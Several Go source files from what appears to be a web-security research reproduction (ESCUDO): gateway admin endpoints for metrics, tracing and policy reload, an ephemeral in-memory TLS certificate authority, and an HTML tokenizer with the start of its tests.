		g.cfg.Stages.Observe(obs.StageTranslate, trans)
		if req.TraceID != "" {
			var stages [obs.NumStages]int64
			stages[obs.StageQueueWait] = int64(res.wait)
			stages[obs.StageHandler] = int64(res.handler)
			stages[obs.StageTranslate] = int64(trans)
			g.cfg.Slow.Record("gateway", req.TraceID, total, stages)
		}
	}
	releaseRequest(req)
}

// writeCachedPage serves a page-cache hit without copying: headers are
// installed into the response header map by reference (the cached
// slices are frozen — see cachedPage) and the body is written straight
// from the cached byte slice. Apart from net/http's own plumbing the
// hit path allocates nothing.
func (g *Gateway) writeCachedPage(w http.ResponseWriter, page *cachedPage) {
	wh := w.Header()
	for k, vs := range page.header {
		wh[k] = vs
	}
	wh[HeaderOrigKeys] = page.origKeyVal
	wh["Etag"] = page.etagVal
	w.WriteHeader(page.status)
	if len(page.body) > 0 {
		w.Write(page.body) //nolint:errcheck // client went away; nothing to do
	}
	g.served.Add(1)
}

// servePprof dispatches the net/http/pprof handlers. It is reachable
// only on the admin host and only with Config.EnablePprof — the
// profiling surface shares /metricsz's isolation from web origins.
func servePprof(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/debug/pprof/cmdline":
		nhpprof.Cmdline(w, r)
	case "/debug/pprof/profile":
		nhpprof.Profile(w, r)
	case "/debug/pprof/symbol":
		nhpprof.Symbol(w, r)
	case "/debug/pprof/trace":
		nhpprof.Trace(w, r)
	default:
		// Index serves /debug/pprof/ and the named profiles
		// (heap, goroutine, allocs, ...).
		nhpprof.Index(w, r)
	}
}

// serveFallback handles hosts with no mounted vhost by deriving the
// origin from the Host header and round-tripping inline on the inner
// transport. An unregistered origin then takes exactly the in-memory
// path: the network logs a 502 entry and returns ErrNoServer, which
// comes back as a marked 502.
func (g *Gateway) serveFallback(w http.ResponseWriter, r *http.Request) {
	target, err := origin.Parse("http://" + r.Host)
	if err != nil {
		g.gatewayError(w, gatewayBadRequest, http.StatusBadRequest,
			fmt.Sprintf("unusable Host %q", r.Host))
		return
	}
	req := translate(r, target)
	resp, err := g.inner.RoundTrip(req)
	releaseRequest(req)
	if err != nil {
		g.routeError(w, err)
		return
	}
	g.writeResponse(w, resp, "", "")
}

// routeError maps inner-transport errors onto marked HTTP statuses.
func (g *Gateway) routeError(w http.ResponseWriter, err error) {
	if errors.Is(err, web.ErrNoServer) {
		g.gatewayError(w, gatewayNoServer, http.StatusBadGateway, err.Error())
		return
	}
	g.gatewayError(w, gatewayBadRequest, http.StatusBadGateway, err.Error())
}

// healthzJSON is the /healthz (readiness) document. /livez answers
// liveness separately: it is 200 from the instant the listener is up,
// while /healthz stays "starting" (503) until every origin is mounted,
// the worker pools are running, and any HoldReady warm-up has passed —
// so a supervisor polling readiness can never race the mount loop.
type healthzJSON struct {
	Status  string `json:"status"`
	Ready   bool   `json:"ready"`
	TLS     bool   `json:"tls"`
	Origins int    `json:"origins"`
	Addr    string `json:"addr"`
	// Version stamps which binary answered, so cluster shards record —
	// and the supervisor cross-checks — the build behind every worker.
	Version obs.Stamp `json:"version"`
}

func (g *Gateway) serveHealthz(w http.ResponseWriter) {
	origins := len(g.table.Load().byOrigin)
	doc := healthzJSON{Status: "ok", Ready: true, TLS: g.TLS(), Origins: origins, Addr: g.Addr(), Version: obs.Version()}
	if !g.ready.Load() {
		doc.Status = "starting"
		doc.Ready = false
		writeJSONStatus(w, http.StatusServiceUnavailable, doc)
		return
	}
	writeJSON(w, doc)
}

// livezJSON is the /livez document: the process is up and serving its
// listener, whatever the readiness state.
type livezJSON struct {
	Live    bool      `json:"live"`
	Addr    string    `json:"addr"`
	Version obs.Stamp `json:"version"`
}

func (g *Gateway) serveLivez(w http.ResponseWriter) {
	writeJSON(w, livezJSON{Live: true, Addr: g.Addr(), Version: obs.Version()})
}

// vhostJSON is one origin's row in /metricsz.
type vhostJSON struct {
	Origin   string `json:"origin"`
	Workers  int    `json:"workers"`
	Weight   int    `json:"weight"`
	QueueLen int    `json:"queue_len"`
	QueueCap int    `json:"queue_cap"`
	Served   uint64 `json:"served"`
	Dropped  uint64 `json:"dropped_503"`
}

// stageJSON is one stage's latency summary in /metricsz (the JSON
// companion to the escudo_stage_seconds /varz family).
type stageJSON struct {
	P50Ms float64 `json:"p50_ms"`
	P99Ms float64 `json:"p99_ms"`
	Count uint64  `json:"count"`
}

// metricszJSON is the /metricsz document: gateway counters, per-origin
// queue state, and whatever the configured StatsFunc reports (the load
// driver wires engine.Pool.Stats here).
type metricszJSON struct {
	Gateway Stats       `json:"gateway"`
	Origins []vhostJSON `json:"origins"`
	// Stages carries per-stage latency summaries keyed by stage name
	// when the deployment wired a StageSet.
	Stages map[string]stageJSON `json:"stages,omitempty"`
	Engine any                  `json:"engine,omitempty"`
	// Client carries the co-resident ClientTransport's stats
	// (connection reuse) when the driver wired ClientStatsFunc.
	Client  any       `json:"client,omitempty"`
	Version obs.Stamp `json:"version"`
}

func (g *Gateway) serveMetricsz(w http.ResponseWriter) {
	doc := metricszJSON{Gateway: g.Stats(), Version: obs.Version()}
	table := g.table.Load()
	doc.Origins = make([]vhostJSON, 0, len(table.byOrigin))
	for _, vh := range table.byOrigin {
		doc.Origins = append(doc.Origins, vhostJSON{
			Origin:   vh.origin.String(),
			Workers:  vh.cfg.Workers,
			Weight:   vh.cfg.Weight,
			QueueLen: len(vh.jobs),
			QueueCap: cap(vh.jobs),
			Served:   vh.served.Value(),
			Dropped:  vh.dropped.Value(),
		})
	}
	sort.Slice(doc.Origins, func(a, b int) bool { return doc.Origins[a].Origin < doc.Origins[b].Origin })
	if g.cfg.Stages != nil {
		doc.Stages = make(map[string]stageJSON, int(obs.NumStages))
		for st := obs.Stage(0); st < obs.NumStages; st++ {
			h := g.cfg.Stages.Hist(st).Snapshot()
			if h.Total() == 0 {
				continue
			}
			doc.Stages[st.String()] = stageJSON{
				P50Ms: float64(h.Quantile(50).Nanoseconds()) / 1e6,
				P99Ms: float64(h.Quantile(99).Nanoseconds()) / 1e6,
				Count: h.Total(),
			}
		}
	}
	if g.cfg.StatsFunc != nil {
		doc.Engine = g.cfg.StatsFunc()
	}
	if g.cfg.ClientStatsFunc != nil {
		doc.Client = g.cfg.ClientStatsFunc()
	}
	writeJSON(w, doc)
}

// serveVarz writes the registry in Prometheus text exposition format.
// Like every admin endpoint it answers only on the listener's own
// address, never on a mounted origin's Host.
func (g *Gateway) serveVarz(w http.ResponseWriter) {
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	io.WriteString(w, g.reg.Expose()) //nolint:errcheck // client went away; nothing to do
}

// tracezJSON is the /tracez document: the retained decision-provenance
// events passing the query filter, oldest first.
type tracezJSON struct {
	// Total counts events ever recorded; Retained how many the ring
	// currently holds; Matched how many passed the filter.
	Total    uint64              `json:"total"`
	Retained int                 `json:"retained"`
	Matched  int                 `json:"matched"`
	Events   []obs.DecisionEvent `json:"events"`
}

// serveTracez answers the decision-provenance queries: ?trace=<id>,
// ?origin=<origin>, ?ring=<n>, ?verdict=allow|deny, all composable.
// It shares the admin host's isolation (and 404s when the deployment
// wired no ring), exactly like pprof.
func (g *Gateway) serveTracez(w http.ResponseWriter, r *http.Request) {
	if g.cfg.Ring == nil {
		http.NotFound(w, r)
		return
	}
	q := r.URL.Query()
	f := obs.MatchAny
	f.TraceID = q.Get("trace")
	f.Origin = q.Get("origin")
	f.Verdict = q.Get("verdict")
	if s := q.Get("ring"); s != "" {
		var ring int
		if _, err := fmt.Sscanf(s, "%d", &ring); err != nil || ring < 0 {
			http.Error(w, fmt.Sprintf("bad ring %q", s), http.StatusBadRequest)
			return
		}
		f.Ring = ring
	}
	events := g.cfg.Ring.Snapshot(f)
	writeJSON(w, tracezJSON{
		Total:    g.cfg.Ring.Total(),
		Retained: g.cfg.Ring.Len(),
		Matched:  len(events),
		Events:   events,
	})
}

// slowzJSON is the /slowz document: the retained tail exemplars,
// slowest first, each with its trace ID and per-stage breakdown.
type slowzJSON struct {
	// Phases lists the phase labels with retained exemplars; Size is
	// the per-phase retention (slowest-N).
	Phases    []string           `json:"phases"`
	Size      int                `json:"size"`
	Exemplars []obs.SlowExemplar `json:"exemplars"`
}

// serveSlowz answers tail-exemplar queries: the slowest retained
// tasks per phase (?phase=<name> filters to one), each joinable
// against /tracez by trace ID. It shares the admin host's isolation
// and 404s when the deployment wired no slow-ring, exactly like
// /tracez without a decision ring.
func (g *Gateway) serveSlowz(w http.ResponseWriter, r *http.Request) {
	if g.cfg.Slow == nil {
		http.NotFound(w, r)
		return
	}
	phase := r.URL.Query().Get("phase")
	phases := g.cfg.Slow.Phases()
	sort.Strings(phases)
	writeJSON(w, slowzJSON{
		Phases:    phases,
		Size:      g.cfg.Slow.Size(),
		Exemplars: g.cfg.Slow.Snapshot(phase),
	})
}

// servePolicyDoc writes one origin's policy document (the PolicyPath
// response body).
func (g *Gateway) servePolicyDoc(w http.ResponseWriter, p policy.Policy) {
	data, err := p.MarshalIndent()
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(data) //nolint:errcheck // client went away; nothing to do
}

// policyzJSON is the /policyz document: the fleet policy generation,
// every mounted document keyed by origin, and each origin's revision
// counter. The shape matches ctlplane.PolicyzDoc — watchers decode the
// generation, escudo-inspect renders the rest.
type policyzJSON struct {
	Generation uint64                   `json:"generation"`
	Policies   map[string]policy.Policy `json:"policies"`
	Revs       map[string]uint64        `json:"revs"`
}

// maxPolicyzHold bounds how long a ?wait long poll may park.
const maxPolicyzHold = 30 * time.Second

// servePolicyz is the admin control-plane endpoint. Plain GET returns
// the fleet generation plus every mounted policy document and its
// revision. ?origin=http://forum.example returns that origin's
// document alone (404 when it has none). ?wait=N (&timeout=ms, capped
// at 30s) parks the request until the fleet generation exceeds N —
// the long-poll half of ctlplane.Watcher — and then answers with the
// current snapshot either way.
func (g *Gateway) servePolicyz(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	if want := q.Get("origin"); want != "" {
		if _, err := origin.Parse(want); err != nil {
			http.Error(w, fmt.Sprintf("bad origin %q", want), http.StatusBadRequest)
			return
		}
		p, _, ok := g.policies.Get(want)
		if !ok {
			http.NotFound(w, r)
			return
		}
		g.servePolicyDoc(w, p)
		return
	}
	if s := q.Get("wait"); s != "" {
		var after uint64
		if _, err := fmt.Sscanf(s, "%d", &after); err != nil {
			http.Error(w, fmt.Sprintf("bad wait %q", s), http.StatusBadRequest)
			return
		}
		hold := 10 * time.Second
		if ts := q.Get("timeout"); ts != "" {
			var ms int64
			if _, err := fmt.Sscanf(ts, "%d", &ms); err != nil || ms < 0 {
				http.Error(w, fmt.Sprintf("bad timeout %q", ts), http.StatusBadRequest)
				return
			}
			hold = time.Duration(ms) * time.Millisecond
		}
		if hold > maxPolicyzHold {
			hold = maxPolicyzHold
		}
		ctx, cancel := context.WithTimeout(r.Context(), hold)
		g.policies.Wait(ctx, after)
		cancel()
	}
	snap := g.policies.Snapshot()
	doc := policyzJSON{
		Generation: snap.Gen,
		Policies:   make(map[string]policy.Policy, snap.Len()),
		Revs:       make(map[string]uint64, snap.Len()),
	}
	snap.Each(func(o string, e ctlplane.Entry) {
		doc.Policies[o] = e.Policy
		doc.Revs[o] = e.Rev
	})
	writeJSON(w, doc)
}

// maxReloadBytes bounds a reload request body.
const maxReloadBytes = 1 << 20

// reloadError answers a rejected reload with a JSON error document.
func reloadError(w http.ResponseWriter, status int, msg string) {
	writeJSONStatus(w, status, map[string]string{"error": msg})
}

// serveReload is POST /policyz/reload: parse the posted policy
// document, require its origin to be mounted, and swap it into the
// control-plane store — validation runs strictly before the swap, so a
// rejected document leaves the old policy mounted at the old
// generation. Like every admin endpoint it answers only on the
// listener's own address; a web-origin Host header can never reach it.
func (g *Gateway) serveReload(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		reloadError(w, http.StatusMethodNotAllowed, "POST a policy document")
		return
	}
	data, err := io.ReadAll(io.LimitReader(r.Body, maxReloadBytes))
	if err != nil {
		reloadError(w, http.StatusBadRequest, fmt.Sprintf("reading body: %v", err))
		return
	}
	doc, err := policy.Parse(data)
	if err != nil {
		reloadError(w, http.StatusUnprocessableEntity, err.Error())
		return
	}
	o, err := origin.Parse(doc.Origin)
	if err != nil {
		reloadError(w, http.StatusUnprocessableEntity, fmt.Sprintf("policy origin: %v", err))
		return
	}
	if _, mounted := g.table.Load().byOrigin[o]; !mounted {
		reloadError(w, http.StatusNotFound, fmt.Sprintf("origin %s not mounted", o))
		return
	}
	gen, rev, err := g.policies.Set(doc)
	if err != nil {
		reloadError(w, http.StatusUnprocessableEntity, err.Error())
		return
	}
	writeJSON(w, ctlplane.ReloadResult{Origin: doc.Origin, Generation: gen, Rev: rev})
}

func writeJSON(w http.ResponseWriter, doc any) {
	writeJSONStatus(w, http.StatusOK, doc)
}

func writeJSONStatus(w http.ResponseWriter, status int, doc any) {
	data, err := json.Marshal(doc)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	if status != http.StatusOK {
		w.WriteHeader(status)
	}
	w.Write(data) //nolint:errcheck // client went away; nothing to do
}
