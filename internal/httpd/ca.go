package httpd

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"os"
	"sync"
	"time"
)

// CA is an ephemeral in-memory certificate authority: a self-signed
// root generated at construction, minting per-origin leaf
// certificates on demand. It exists so the gateway can terminate real
// TLS for the mounted origins without any key material ever touching
// disk — the only artifact that leaves the process is the root
// CERTIFICATE (no key), which loadgen workers load as their trust
// pool.
//
// Leafs are keyed by SNI server name: the first handshake naming an
// origin host mints (and caches) that host's certificate, so every
// mounted origin presents its own identity, exactly like a
// multi-tenant fronting proxy. Handshakes without SNI (admin probes
// dialing the listener IP) get a default leaf carrying loopback SANs.
type CA struct {
	key     *ecdsa.PrivateKey
	cert    *x509.Certificate
	certPEM []byte

	mu     sync.Mutex
	leaves map[string]*tls.Certificate
	serial int64
}

// NewCA generates a fresh ECDSA P-256 root.
func NewCA() (*CA, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("httpd: generating CA key: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: "escudo ephemeral CA", Organization: []string{"escudo-serve"}},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(24 * time.Hour),
		KeyUsage:              x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
		BasicConstraintsValid: true,
		IsCA:                  true,
		MaxPathLen:            1,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, fmt.Errorf("httpd: self-signing CA: %w", err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, fmt.Errorf("httpd: parsing CA cert: %w", err)
	}
	return &CA{
		key:     key,
		cert:    cert,
		certPEM: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
		leaves:  map[string]*tls.Certificate{},
		serial:  1,
	}, nil
}

// CertPEM returns the root certificate, PEM-encoded. This is the trust
// anchor a client needs; the private key never leaves the CA.
func (ca *CA) CertPEM() []byte { return append([]byte(nil), ca.certPEM...) }

// WriteCertPEM writes the root certificate to path, the hand-off
// artifact a supervisor passes to loadgen worker processes.
func (ca *CA) WriteCertPEM(path string) error {
	return os.WriteFile(path, ca.certPEM, 0o644)
}

// Pool returns a cert pool trusting exactly this CA.
func (ca *CA) Pool() *x509.CertPool {
	pool := x509.NewCertPool()
	pool.AddCert(ca.cert)
	return pool
}

// LoadCAPool reads a PEM bundle written by WriteCertPEM and returns
// the trust pool a TLS client transport verifies gateway leafs
// against.
func LoadCAPool(path string) (*x509.CertPool, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("httpd: reading CA bundle: %w", err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(data) {
		return nil, fmt.Errorf("httpd: %s holds no usable certificates", path)
	}
	return pool, nil
}

// defaultLeafName keys the SNI-less leaf in the cache.
const defaultLeafName = "\x00default"

// Leaf returns the cached leaf certificate for host, minting it on
// first use. host may be a DNS name or an IP literal.
func (ca *CA) Leaf(host string) (*tls.Certificate, error) {
	ca.mu.Lock()
	defer ca.mu.Unlock()
	return ca.leafLocked(host)
}

func (ca *CA) leafLocked(host string) (*tls.Certificate, error) {
	if leaf, ok := ca.leaves[host]; ok {
		return leaf, nil
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("httpd: generating leaf key for %s: %w", host, err)
	}
	ca.serial++
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(ca.serial),
		Subject:      pkix.Name{CommonName: host},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	if host == defaultLeafName {
		// The no-SNI leaf: admin probes dial the listener address
		// directly, so it must verify as the loopback host.
		tmpl.Subject.CommonName = "escudo gateway"
		tmpl.DNSNames = []string{"localhost"}
		tmpl.IPAddresses = []net.IP{net.IPv4(127, 0, 0, 1), net.IPv6loopback}
	} else if ip := net.ParseIP(host); ip != nil {
		tmpl.IPAddresses = []net.IP{ip}
	} else {
		tmpl.DNSNames = []string{host}
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca.cert, &key.PublicKey, ca.key)
	if err != nil {
		return nil, fmt.Errorf("httpd: minting leaf for %s: %w", host, err)
	}
	leaf := &tls.Certificate{
		Certificate: [][]byte{der, ca.cert.Raw},
		PrivateKey:  key,
	}
	ca.leaves[host] = leaf
	return leaf, nil
}

// getCertificate is the tls.Config.GetCertificate hook: per-origin
// leafs selected by SNI, the loopback default when the client named
// none.
func (ca *CA) getCertificate(hello *tls.ClientHelloInfo) (*tls.Certificate, error) {
	name := hello.ServerName
	if name == "" {
		name = defaultLeafName
	}
	return ca.Leaf(name)
}

// ServerConfig returns the tls.Config a Gateway terminates https with.
// The ALPN list offers h2 first so clients that force HTTP/2 (the
// pooled ClientTransport does) multiplex streams over one connection
// per origin; http/1.1 stays on the list for plain keep-alive clients
// and admin probes. The CA private key backing GetCertificate never
// leaves this process — leafs are minted in-memory per SNI name.
func (ca *CA) ServerConfig() *tls.Config {
	return &tls.Config{
		MinVersion:     tls.VersionTLS12,
		NextProtos:     []string{"h2", "http/1.1"},
		GetCertificate: ca.getCertificate,
	}
}
