// Package html implements an HTML tokenizer and tree parser sufficient
// for the ESCUDO reproduction: tags with attributes (including
// attributes on end tags, which carry the markup-randomization nonces
// of paper §5), text with entity decoding, comments, doctypes, raw-text
// elements (script, style), void elements, and tolerant error
// recovery. The parser also performs ESCUDO labeling: it recognizes AC
// tags, applies the scoping rule, strips configuration attributes so
// they are never visible to scripts, and enforces the nonce defense
// against node-splitting.
package html

import (
	"strings"
)

// TokenType identifies the kind of a token.
type TokenType int

// Token types produced by the tokenizer.
const (
	TextToken TokenType = iota + 1
	StartTagToken
	EndTagToken
	SelfClosingTagToken
	CommentToken
	DoctypeToken
	EOFToken
)

// String names the token type for debugging.
func (t TokenType) String() string {
	switch t {
	case TextToken:
		return "text"
	case StartTagToken:
		return "start-tag"
	case EndTagToken:
		return "end-tag"
	case SelfClosingTagToken:
		return "self-closing-tag"
	case CommentToken:
		return "comment"
	case DoctypeToken:
		return "doctype"
	case EOFToken:
		return "eof"
	default:
		return "unknown"
	}
}

// Attr is one name/value attribute pair. Names are lowercased by the
// tokenizer; values are entity-decoded.
type Attr struct {
	Name  string
	Value string
}

// Token is one lexical unit of the input.
type Token struct {
	Type TokenType
	// Tag is the lowercase tag name for tag tokens.
	Tag string
	// Attrs are the tag's attributes, in source order. End tags may
	// carry attributes too: ESCUDO's </div nonce=N> relies on this.
	Attrs []Attr
	// Data is the decoded text for text tokens, the comment body for
	// comment tokens, and the raw content for doctype tokens.
	Data string
}

// Attr returns the value of the named attribute and whether it is
// present. Lookup is by lowercase name.
func (t Token) Attr(name string) (string, bool) {
	for _, a := range t.Attrs {
		if a.Name == name {
			return a.Value, true
		}
	}
	return "", false
}

// voidElements never have closing tags or children.
var voidElements = map[string]bool{
	"area": true, "base": true, "br": true, "col": true, "embed": true,
	"hr": true, "img": true, "input": true, "link": true, "meta": true,
	"param": true, "source": true, "track": true, "wbr": true,
}

// IsVoid reports whether tag is a void element.
func IsVoid(tag string) bool { return voidElements[tag] }

// rawTextElements have content that is not tokenized as markup.
var rawTextElements = map[string]bool{"script": true, "style": true, "textarea": true, "title": true}

// Tokenizer splits HTML input into tokens. Create one with
// NewTokenizer and call Next until it returns an EOFToken.
type Tokenizer struct {
	input string
	pos   int
	// rawTag, when non-empty, means the tokenizer is inside a
	// raw-text element and accumulates text until its end tag.
	rawTag string
}

// NewTokenizer returns a tokenizer over the given input.
func NewTokenizer(input string) *Tokenizer {
	return &Tokenizer{input: input}
}

// Next returns the next token. After the input is exhausted it returns
// EOFToken forever.
func (z *Tokenizer) Next() Token {
	if z.pos >= len(z.input) {
		return Token{Type: EOFToken}
	}
	if z.rawTag != "" {
		return z.nextRawText()
	}
	if z.input[z.pos] == '<' {
		if tok, ok := z.nextMarkup(); ok {
			return tok
		}
		// A lone '<' that opens nothing parseable is literal text.
	}
	return z.nextText()
}

// nextText consumes text up to the next '<' that can begin markup.
// When called with the position already on a '<', that '<' failed to
// parse as markup (Next tried first), so it is consumed as literal
// text — this guarantees progress on torn markup like "</ div>".
func (z *Tokenizer) nextText() Token {
	start := z.pos
	for z.pos < len(z.input) {
		i := strings.IndexByte(z.input[z.pos:], '<')
		if i < 0 {
			z.pos = len(z.input)
			break
		}
		z.pos += i
		if z.pos > start && z.looksLikeMarkup(z.pos) {
			break
		}
		z.pos++ // literal '<'
	}
	return Token{Type: TextToken, Data: Unescape(z.input[start:z.pos])}
}

// looksLikeMarkup reports whether the '<' at pos begins a tag,
// comment, or doctype (as opposed to a literal less-than sign).
func (z *Tokenizer) looksLikeMarkup(pos int) bool {
	if pos+1 >= len(z.input) {
		return false
	}
	c := z.input[pos+1]
	return c == '/' || c == '!' || c == '?' || isAlpha(c)
}

// lowerASCII returns s lowercased, without allocating when s already
// is — the overwhelmingly common case for tag and attribute names.
func lowerASCII(s string) string {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c >= 'A' && c <= 'Z' {
			return strings.ToLower(s)
		}
	}
	return s
}

// indexFold returns the index of the first ASCII case-insensitive
// occurrence of sep (itself lowercase) in s, or -1. It scans in place:
// no lowercased copy of s is ever built.
func indexFold(s, sep string) int {
	if len(sep) == 0 {
		return 0
	}
	for i := 0; i+len(sep) <= len(s); i++ {
		j := 0
		for j < len(sep) {
			c := s[i+j]
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			if c != sep[j] {
				break
			}
			j++
		}
		if j == len(sep) {
			return i
		}
	}
	return -1
}

// nextRawText consumes raw content until the matching end tag of the
// current raw-text element. The closer search is case-folded in place;
// lowercasing the remaining input per token would be quadratic on
// script-heavy pages.
func (z *Tokenizer) nextRawText() Token {
	closer := "</" + z.rawTag
	rest := z.input[z.pos:]
	i := indexFold(rest, closer)
	if i < 0 {
		// Unterminated raw text: everything remaining is content.
		z.pos = len(z.input)
		z.rawTag = ""
		return Token{Type: TextToken, Data: rest}
	}
	if i == 0 {
		// At the closing tag: emit it.
		z.rawTag = ""
		tok, _ := z.nextMarkup()
		return tok
	}
	z.pos += i
	return Token{Type: TextToken, Data: rest[:i]}
}

// nextMarkup parses a tag, comment, or doctype starting at the current
// '<'. It reports ok=false when the input is not actually markup, in
// which case the position is unchanged.
func (z *Tokenizer) nextMarkup() (Token, bool) {
	start := z.pos
	if !z.looksLikeMarkup(z.pos) {
		return Token{}, false
	}
	z.pos++ // consume '<'
	switch {
	case strings.HasPrefix(z.input[z.pos:], "!--"):
		return z.nextComment(), true
	case z.input[z.pos] == '!' || z.input[z.pos] == '?':
		return z.nextDoctype(), true
	case z.input[z.pos] == '/':
		z.pos++
		tok, ok := z.nextTag(EndTagToken)
		if !ok {
			z.pos = start
			return Token{}, false
		}
		return tok, true
	default:
		tok, ok := z.nextTag(StartTagToken)
		if !ok {
			z.pos = start
			return Token{}, false
		}
		if tok.Type == StartTagToken && rawTextElements[tok.Tag] {
			z.rawTag = tok.Tag
		}
		return tok, true
	}
}

// nextComment consumes "<!--" ... "-->".
func (z *Tokenizer) nextComment() Token {
	z.pos += 3 // consume "!--"
	end := strings.Index(z.input[z.pos:], "-->")
	var body string
	if end < 0 {
		body = z.input[z.pos:]
		z.pos = len(z.input)
	} else {
		body = z.input[z.pos : z.pos+end]
		z.pos += end + 3
	}
	return Token{Type: CommentToken, Data: body}
}

// nextDoctype consumes "<!DOCTYPE ...>" and "<?...>" alike.
func (z *Tokenizer) nextDoctype() Token {
	end := strings.IndexByte(z.input[z.pos:], '>')
	var body string
	if end < 0 {
		body = z.input[z.pos:]
		z.pos = len(z.input)
	} else {
		body = z.input[z.pos : z.pos+end]
		z.pos += end + 1
	}
	return Token{Type: DoctypeToken, Data: body}
}

// nextTag parses a tag name plus attributes up to '>' or '/>'.
func (z *Tokenizer) nextTag(typ TokenType) (Token, bool) {
	nameStart := z.pos
	for z.pos < len(z.input) && isTagNameChar(z.input[z.pos]) {
		z.pos++
	}
	if z.pos == nameStart {
		return Token{}, false
	}
	tok := Token{Type: typ, Tag: lowerASCII(z.input[nameStart:z.pos])}
	for {
		z.skipSpace()
		if z.pos >= len(z.input) {
			return tok, true // unterminated tag: accept what we have
		}
		switch z.input[z.pos] {
		case '>':
			z.pos++
			return tok, true
		case '/':
			z.pos++
			if z.pos < len(z.input) && z.input[z.pos] == '>' {
				z.pos++
				if tok.Type == StartTagToken {
					tok.Type = SelfClosingTagToken
				}
				return tok, true
			}
			// stray '/': ignore
		default:
			name, value, ok := z.nextAttr()
			if !ok {
				// Skip one byte to guarantee progress on garbage.
				z.pos++
				continue
			}
			tok.Attrs = append(tok.Attrs, Attr{Name: name, Value: value})
		}
	}
}

// nextAttr parses one attribute: name, name=value, name="value",
// name='value'.
func (z *Tokenizer) nextAttr() (name, value string, ok bool) {
	start := z.pos
	for z.pos < len(z.input) && isAttrNameChar(z.input[z.pos]) {
		z.pos++
	}
	if z.pos == start {
		return "", "", false
	}
	name = lowerASCII(z.input[start:z.pos])
	z.skipSpace()
	if z.pos >= len(z.input) || z.input[z.pos] != '=' {
		return name, "", true // boolean attribute
	}
	z.pos++ // consume '='
	z.skipSpace()
	if z.pos >= len(z.input) {
		return name, "", true
	}
	switch q := z.input[z.pos]; q {
	case '"', '\'':
		z.pos++
		end := strings.IndexByte(z.input[z.pos:], q)
		if end < 0 {
			value = z.input[z.pos:]
			z.pos = len(z.input)
		} else {
			value = z.input[z.pos : z.pos+end]
			z.pos += end + 1
		}
	default:
		vs := z.pos
		for z.pos < len(z.input) && !isSpace(z.input[z.pos]) && z.input[z.pos] != '>' && z.input[z.pos] != '/' {
			z.pos++
		}
		value = z.input[vs:z.pos]
	}
	return name, Unescape(value), true
}

func (z *Tokenizer) skipSpace() {
	for z.pos < len(z.input) && isSpace(z.input[z.pos]) {
		z.pos++
	}
}

func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f'
}

func isAlpha(c byte) bool {
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isTagNameChar(c byte) bool {
	return isAlpha(c) || (c >= '0' && c <= '9') || c == '-' || c == ':'
}

func isAttrNameChar(c byte) bool {
	return !isSpace(c) && c != '=' && c != '>' && c != '/' && c != '"' && c != '\'' && c != '<'
}
