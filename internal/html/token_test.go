package html

import (
	"strings"
	"testing"
	"testing/quick"
)

// collect tokenizes the whole input.
func collect(t *testing.T, input string) []Token {
	t.Helper()
	z := NewTokenizer(input)
	var toks []Token
	for i := 0; i < 10000; i++ {
		tok := z.Next()
		if tok.Type == EOFToken {
			return toks
		}
		toks = append(toks, tok)
	}
	t.Fatal("tokenizer did not terminate")
	return nil
}

func TestTokenizeSimple(t *testing.T) {
	toks := collect(t, `<p class="intro">Hello</p>`)
	if len(toks) != 3 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	if toks[0].Type != StartTagToken || toks[0].Tag != "p" {
		t.Errorf("tok0 = %+v", toks[0])
	}
	if v, ok := toks[0].Attr("class"); !ok || v != "intro" {
		t.Errorf("class = %q, %v", v, ok)
	}
	if toks[1].Type != TextToken || toks[1].Data != "Hello" {
		t.Errorf("tok1 = %+v", toks[1])
	}
	if toks[2].Type != EndTagToken || toks[2].Tag != "p" {
		t.Errorf("tok2 = %+v", toks[2])
	}
}

func TestTokenizeAttributeStyles(t *testing.T) {
	toks := collect(t, `<div ring=2 r="1" w='0' x=2 data-empty hidden>`)
	if len(toks) != 1 {
		t.Fatalf("got %d tokens", len(toks))
	}
	want := map[string]string{"ring": "2", "r": "1", "w": "0", "x": "2", "data-empty": "", "hidden": ""}
	for name, val := range want {
		got, ok := toks[0].Attr(name)
		if !ok || got != val {
			t.Errorf("attr %q = %q,%v; want %q", name, got, ok, val)
		}
	}
}

func TestTokenizeEndTagAttributes(t *testing.T) {
	// ESCUDO end tags carry nonces: </div nonce=3847>.
	toks := collect(t, `</div nonce=3847>`)
